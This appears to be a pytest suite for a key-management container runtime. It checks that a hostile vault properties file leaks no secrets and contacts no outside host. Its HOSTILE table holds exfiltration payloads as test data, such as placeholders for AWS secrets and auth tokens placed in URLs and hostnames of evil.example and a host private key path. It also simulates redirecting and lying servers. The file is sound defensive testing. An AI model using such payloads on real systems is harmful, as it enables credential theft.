"""A properties file that is meant to lead the container astray, as whoever controls the portal could seal it: no linter between.

Nothing of the container leaves it, not even a question to a name server, until somebody at the container allows it.
"""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from django.urls import reverse

from kmscore.byov.customer import CustomerVault, key_name
from kmscore.vaultclient.client import Vault
from tests.customer import CustomersVault
from tests.kmscore.byov.situations import dripping, lying, proxy, serving
from tests.kmsruntime.container import Container, bring_your_own_vault, save
from tests.kmsruntime.misbehaving import Misbehaving, misbehaving
from tests.kmsruntime.recorder import Recorder
from tests.live import ROOT
from tests.servers import OpenBao, start_openbao
from vaults.models import ContainerReport

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.slow]
EVIL = "https://evil.example"
TOKEN = "hvs.token-canary-5e0f"
HELD = {"AUTH_TOKEN": TOKEN, "AWS_SECRET_ACCESS_KEY": "aws-canary-77c1", "VAULT_NAMESPACE": "namespace-canary-1b2d"}
OWN = {"VAULT_URI": "https://127.0.0.1:1"}

# Settings of the file, more variables of the container, and what is said: code and detail.
HOSTILE: dict[str, tuple[dict[str, str], dict[str, str], str, str]] = {
    "a secret in the address": ({"uri": EVIL + "/${AWS_SECRET_ACCESS_KEY}"}, {}, "placeholder_in_text", "uri"),
    "a token in the host's name": ({"uri": "https://${AUTH_TOKEN}.evil.example"}, {}, "placeholder_in_text", "uri"),
    "a secret as a default": ({"uri": "${X:${AWS_SECRET_ACCESS_KEY}}"}, {}, "placeholder_in_text", "uri"),
    "a token as the address": ({"uri": "${AUTH_TOKEN}"}, {}, "uri_refused", "uri_scheme"),
    "a token of the container": ({"uri": EVIL, "token": "${AUTH_TOKEN}"}, {}, "confirm_vault", EVIL + ":443"),
    "a namespace of the container": ({"uri": EVIL, "namespace": "${VAULT_NAMESPACE}"}, {}, "confirm_vault", EVIL + ":443"),
    "a default for an address that is not set": (
        {"uri": "${VAULT_URI:https://evil.example}", "token": "${AUTH_TOKEN}"}, {}, "confirm_vault", EVIL + ":443"
    ),
    "a client certificate of the container": (
        {"uri": EVIL, "key_store": "/etc/ssl/private/host.pem"}, {}, "confirm_vault", EVIL + ":443"
    ),
    "a password of the container": (
        {"uri": EVIL, "key_store_password": "${AUTH_TOKEN}"}, {}, "confirm_vault", EVIL + ":443"
    ),
    "another secret as the token": (
        {"uri": "${VAULT_URI}", "token": "${AWS_SECRET_ACCESS_KEY}"}, OWN, "env_not_allowed", "AWS_SECRET_ACCESS_KEY"
    ),
    "another secret as a file's name": (
        {"uri": "${VAULT_URI}", "trust_store": "${AWS_SECRET_ACCESS_KEY}"}, OWN, "env_not_allowed", "AWS_SECRET_ACCESS_KEY"
    ),
    "a user in the address": ({"uri": "https://kms:pass@evil.example"}, {}, "uri_refused", "uri_userinfo"),
    "a question in the address": ({"uri": EVIL + "/?x=y"}, {}, "uri_refused", "uri_query"),
    "plain http to another machine": ({"uri": "http://evil.example:8200"}, {}, "uri_refused", "uri_scheme"),
    "plain http by a variable": ({"uri": "${VAULT_URI}"}, {"VAULT_URI": "http://evil.example"}, "uri_refused", "uri_scheme"),
    "a variable that is not set": ({"uri": "${VAULT_URI}", "token": "${AUTH_TOKEN}"}, {}, "env_missing", "VAULT_URI"),
}  # fmt: skip


@pytest.fixture
def holding(enrolled: Container) -> Container:
    """It holds a value, sealed with the hosted vault."""
    save(enrolled.stage, password="held-canary")
    enrolled.sync()
    return enrolled


@pytest.fixture(scope="module")
def server() -> Iterator[OpenBao]:
    """A vault without TLS, for a liar before it."""
    found = start_openbao()
    Vault(found.address, token=found.root_token).call("POST", "sys/mounts/transit", {"type": "transit"})
    yield found
    found.stop()


@pytest.fixture
def recorder(tmp_path: Path) -> Recorder:
    directory = tmp_path / "recorder"
    directory.mkdir()
    return Recorder(directory)


def seal(container: Container, **settings: Any) -> None:
    """What the portal seals, whatever the linter would say."""
    vault = CustomerVault(**({"token": "hvs.of-the-file"} | settings))
    bring_your_own_vault(container.stage, container.stage.atom, vault)


def until(is_so: Callable[[], bool], seconds: float = 30) -> None:
    deadline = time.monotonic() + seconds
    while not is_so():
        assert time.monotonic() < deadline
        time.sleep(0.05)


@contextmanager
def running(container: Container, environment: dict[str, str]) -> Iterator[subprocess.Popen[str]]:
    words = container.words("run", "--poll", "0.5")
    process = subprocess.Popen(words, stderr=subprocess.PIPE, text=True, cwd=ROOT, env=environment)
    try:
        yield process
    finally:
        process.kill()
        process.wait()


def reported() -> tuple[str, str]:
    """Code and detail of the step that the portal shows as failed; "" each when there is none."""
    steps = ContainerReport.objects.get().preflight
    return next(((one["code"], one["detail"]) for one in steps if one["state"] == "failed"), ("", ""))


def everything(container: Container) -> str:
    """All that is stored and reported: the directory, the report, the portal's logs."""
    files = [path.read_bytes().decode("latin-1") for path in container.directory.rglob("*") if path.is_file()]
    return "".join(files) + repr(vars(ContainerReport.objects.get())) + container.portal.logs()


@pytest.mark.parametrize("name", HOSTILE)
def test_nobody_is_contacted(holding: Container, recorder: Recorder, name: str) -> None:
    settings, more, code, detail = HOSTILE[name]
    seal(holding, **settings)
    environment = holding.environment(**HELD, **more, **recorder.environment)
    synced = holding.command("sync", env=environment)
    assert (synced.returncode, "is pending: The vault's address: " in synced.stderr) == (0, True)
    checked = holding.command("check", "--json", env=environment)
    assert (checked.returncode, checked.stderr.endswith(f"[{code}]\n")) == (83, True)
    assert recorder.beyond(holding.portal.url, holding.portal.vault_address) == []
    assert len(recorder.lines()) > 6
    assert json.loads(checked.stdout)["steps"][0] | {"sentence": "", "command": "", "title": ""} == {
        "id": "address", "state": "failed", "code": code, "detail": detail, "sentence": "", "command": "", "title": ""
    }  # fmt: skip
    assert reported() == (code, detail)
    for secret in HELD.values():
        assert secret not in everything(holding) + synced.stderr + checked.stdout + checked.stderr
    assert holding.command("get", "Orders database", "password").stdout == "held-canary"


@pytest.mark.parametrize("more", {str(case[1]): case[1] for case in HOSTILE.values()}.values(), ids=str)
def test_nobody_is_contacted_by_a_run_either(holding: Container, recorder: Recorder, more: dict[str, str]) -> None:
    """It stays at work while one file after the other is saved, and says once of each what is wrong with it."""
    cases = [case for case in HOSTILE.values() if case[1] == more]
    said: list[str] = []
    with running(holding, holding.environment(**HELD, **more, **recorder.environment)) as process:
        assert process.stderr is not None
        for settings, _, code, detail in cases:
            seal(holding, **settings)
            said.append(next(line for line in process.stderr if "is pending: " in line))
            until(lambda wanted=(code, detail): reported() == wanted)  # type: ignore[misc]
        holding.after_more_syncs()
        process.send_signal(signal.SIGTERM)
        said += process.stderr
        assert process.wait(60) == 0
    assert len([line for line in said if "is pending: The vault's address: " in line]) == len(cases)
    assert len([line for line in said if "is pending: " in line]) == len(cases)
    assert recorder.beyond(holding.portal.url, holding.portal.vault_address) == []
    assert len(recorder.lines()) > 4
    for secret in HELD.values():
        assert secret not in everything(holding) + "".join(said)


def test_the_panel_says_what_to_confirm(holding: Container) -> None:
    seal(holding, uri=EVIL, token="${AUTH_TOKEN}")
    holding.command("sync", env=holding.environment(**HELD))
    page = holding.stage.cast.client("alice").get(
        reverse("vaults:kms_panel", args=[holding.stage.account.code, holding.stage.atom.pk])
    )
    text = page.content.decode()
    assert "kms-runtime allow-vault https://evil.example:443" in text
    assert "pending" in text


def test_a_variable_that_is_not_set_is_named(holding: Container) -> None:
    seal(holding, uri="${VAULT_URI}", token="${AUTH_TOKEN}", namespace="${VAULT_NAMESPACE:}")
    holding.command("sync", env=holding.environment())
    assert ContainerReport.objects.get().variables == ["VAULT_URI", "AUTH_TOKEN"]


def test_the_recorder_sees_what_is_allowed(holding: Container, recorder: Recorder) -> None:
    seal(holding, uri="https://vault.invalid:8200", token="${AUTH_TOKEN}")
    environment = holding.environment(**HELD, **recorder.environment)
    assert holding.command("allow-vault", "https://vault.invalid:8200", env=environment).returncode == 0
    assert "[vault_dns]" in holding.command("check", env=environment).stderr
    assert recorder.beyond(holding.portal.url, holding.portal.vault_address) == ["getaddrinfo vault.invalid:8200"]


def test_an_allowed_address_is_that_port_of_that_host_only(holding: Container, recorder: Recorder) -> None:
    environment = holding.environment(**HELD, **recorder.environment)
    holding.command("allow-vault", "https://evil.example:8200", "https://EXAMPLE:443", env=environment)
    for uri in (
        "https://evil.example",
        "http://127.0.0.1:8200",
        "https://sub.evil.example:8200",
        "https://example:8443",
    ):
        seal(holding, uri=uri, token="${AUTH_TOKEN}")
        assert "[confirm_vault]" in holding.command("check", env=environment).stderr
    assert recorder.beyond(holding.portal.url, holding.portal.vault_address) == []


@pytest.mark.parametrize(
    ("token", "code", "words"),
    [
        ("${AUTH_TOKEN}", "confirm_vault", ("allow-vault", "{address}")),
        ("${ORDERS_TOKEN}", "env_not_allowed", ("allow-vault", "--allow-env", "ORDERS_TOKEN", "{address}")),
    ],
)
def test_what_is_allowed_goes_on_by_itself(
    holding: Container,
    customers_vault: CustomersVault,
    recorder: Recorder,
    token: str,
    code: str,
    words: tuple[str, ...],
) -> None:
    key = key_name(holding.stage.account.code, str(holding.stage.atom.pk))
    customers_vault.make_key(key)
    held = {"AUTH_TOKEN": customers_vault.make_token(key), "VAULT_CACERT": str(customers_vault.ca)}
    environment = holding.environment(**held, ORDERS_TOKEN=held["AUTH_TOKEN"], **recorder.environment)
    seal(holding, uri=customers_vault.address, token=token, namespace=customers_vault.namespace)
    known = (holding.portal.url, holding.portal.vault_address)
    with running(holding, environment) as process:
        until(lambda: reported()[0] == code)
        assert recorder.beyond(*known) == []
        done = holding.command(*(word.format(address=customers_vault.address) for word in words), env=environment)
        assert (done.returncode, customers_vault.address in done.stdout) == (0, True)
        until(lambda: ContainerReport.objects.get().source == "byov")
        assert (process.poll(), reported()) == (None, ("", ""))
    assert set(recorder.beyond(*known)) == {
        f"{event} {customers_vault.address.removeprefix('https://')}" for event in ("connect", "getaddrinfo")
    }
    assert held["AUTH_TOKEN"] not in everything(holding)
    assert holding.command("get", "Orders database", "password", env=environment).stdout == "held-canary"


def test_a_token_that_a_file_calls_the_namespace_is_not_told_to_the_portal(
    holding: Container, customers_vault: CustomersVault
) -> None:
    """The vault is the customer's own; that it has no such namespace is said without the value."""
    held = HELD | {"VAULT_URI": customers_vault.address, "VAULT_CACERT": str(customers_vault.ca)}
    seal(holding, uri="${VAULT_URI}", token="${AUTH_TOKEN}", namespace="${AUTH_TOKEN}")
    environment = holding.environment(**held)
    synced, checked = holding.command("sync", env=environment), holding.command("check", env=environment)
    assert reported()[0] == "namespace_missing"
    assert "has no namespace ${AUTH_TOKEN}" in checked.stdout
    assert TOKEN not in everything(holding) + synced.stderr + checked.stdout + checked.stderr


def test_a_redirect_carries_no_token_away(holding: Container) -> None:
    asked: list[bytes] = []
    with misbehaving(Misbehaving.EMPTY_OBJECT) as second:

        def redirect(connection: socket.socket) -> None:
            asked.append(connection.recv(65536))
            connection.sendall(
                f"HTTP/1.1 307 Moved\r\nLocation: {second.address}/v1/sys/health\r\nContent-Length: 0\r\n\r\n".encode()
            )

        with serving(redirect) as port:
            seal(holding, uri=f"http://127.0.0.1:{port}")
            assert "[vault_redirects]" in holding.command("check").stderr
            assert holding.command("sync").returncode == 0
        assert reported()[0] == "vault_redirects"
        assert any(b"GET /v1/sys/health" in request for request in asked)
        assert second.tokens == []


def test_proxies_of_the_environment_are_not_used(
    holding: Container, customers_vault: CustomersVault, recorder: Recorder
) -> None:
    key = key_name(holding.stage.account.code, str(holding.stage.atom.pk))
    customers_vault.make_key(key)
    seal(holding, uri=customers_vault.address, token=customers_vault.make_token(key), namespace="admin")
    with proxy() as (address, asked):
        names = ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy")
        environment = holding.environment(
            VAULT_CACERT=str(customers_vault.ca), **dict.fromkeys(names, address), **recorder.environment
        )
        assert holding.command("sync", env=environment).returncode == 0
        assert ContainerReport.objects.get().source == "byov"
        assert asked == []
        assert recorder.beyond(holding.portal.url, holding.portal.vault_address, customers_vault.address) == []


def test_a_device_or_a_pipe_is_no_certificate(
    holding: Container, customers_vault: CustomersVault, tmp_path: Path
) -> None:
    """Reading one would never end."""
    os.mkfifo(tmp_path / "pipe")
    for path in ("/dev/zero", str(tmp_path / "pipe"), "/dev/stdin"):
        seal(holding, uri=customers_vault.address, trust_store=path)
        assert "[file_refused]" in holding.command("check").stderr


# -- the vault itself is hostile -------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["explicit_max_ttl", "creation_time"])
@pytest.mark.parametrize("number", [10**15, -(10**15)])
def test_no_number_of_a_vault_ends_the_container(holding: Container, server: OpenBao, name: str, number: int) -> None:
    """First it lies to the preflight; then, once it is in use, to the one who keeps the token alive."""
    lies = threading.Event()

    def answer(body: bytes) -> bytes:
        found = json.loads(body)
        found["data"] |= {name: number} if lies.is_set() else {}
        return json.dumps(found).encode()

    key = key_name(holding.stage.account.code, str(holding.stage.atom.pk))
    root = Vault(server.address, token=server.root_token)
    root.call("POST", f"transit/keys/{key}", {})
    root.call("POST", "sys/policies/acl/hostile", {"policy": policy(key)})
    body = {"policies": ["hostile"], "period": "24h", "no_parent": True}
    token = str(root.call("POST", "auth/token/create", body)["auth"]["client_token"])
    with lying(server.address, "auth/token/lookup-self", answer) as address:
        lies.set()
        seal(holding, uri=address, token=token)
        with running(holding, holding.environment()) as process:
            until(lambda: reported() == ("not_a_vault", ""))
            assert process.poll() is None
            assert "not_a_vault" in holding.command("check").stderr
            lies.clear()
            until(lambda: ContainerReport.objects.get().source == "byov", 60)
        lies.set()
        with running(holding, holding.environment()) as process:
            until(lambda: (ContainerReport.objects.get().token or {}).get("problem") == "answer_invalid")
            save(holding.stage, password="saved-later")
            until(lambda: holding.command("get", "Orders database", "password").stdout == "saved-later")
            assert process.poll() is None
        assert "answer_invalid" in holding.command("status").stdout


def policy(key: str) -> str:
    paths = {f"transit/datakey/+/{key}": "update", "auth/token/lookup-self": "read", "auth/token/renew-self": "update"}
    return "\n".join(f'path "{path}" {{ capabilities = ["{what}"] }}' for path, what in paths.items())


def test_run_stops_when_told_while_a_vault_answers_in_drops(holding: Container) -> None:
    asked = threading.Event()

    def drip(connection: socket.socket) -> None:
        if b"HTTP" in connection.recv(65536):
            asked.set()
        while True:
            connection.sendall(b"H")
            time.sleep(0.2)

    with serving(drip) as port:
        seal(holding, uri=f"http://127.0.0.1:{port}")
        with running(holding, holding.environment()) as process:
            assert asked.wait(20)
            process.send_signal(signal.SIGTERM)
            began = time.monotonic()
            said = process.communicate(timeout=25)[1]
            assert time.monotonic() - began < 6
    assert (process.returncode, said.splitlines()[-1].partition(": ")[2]) == (0, "Stopped.")
    assert holding.command("get", "Orders database", "password").stdout == "held-canary"
    assert holding.command("status").returncode == 0


def test_a_vault_that_answers_in_drops_is_given_up(holding: Container) -> None:
    with dripping(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\r\n", b" ") as address:
        seal(holding, uri=address, read_timeout=1.0)
        began = time.monotonic()
        assert "[vault_timeout]" in holding.command("check").stderr
        assert time.monotonic() - began < 10
        assert holding.command("sync").returncode == 0
    assert reported()[0] == "vault_timeout"
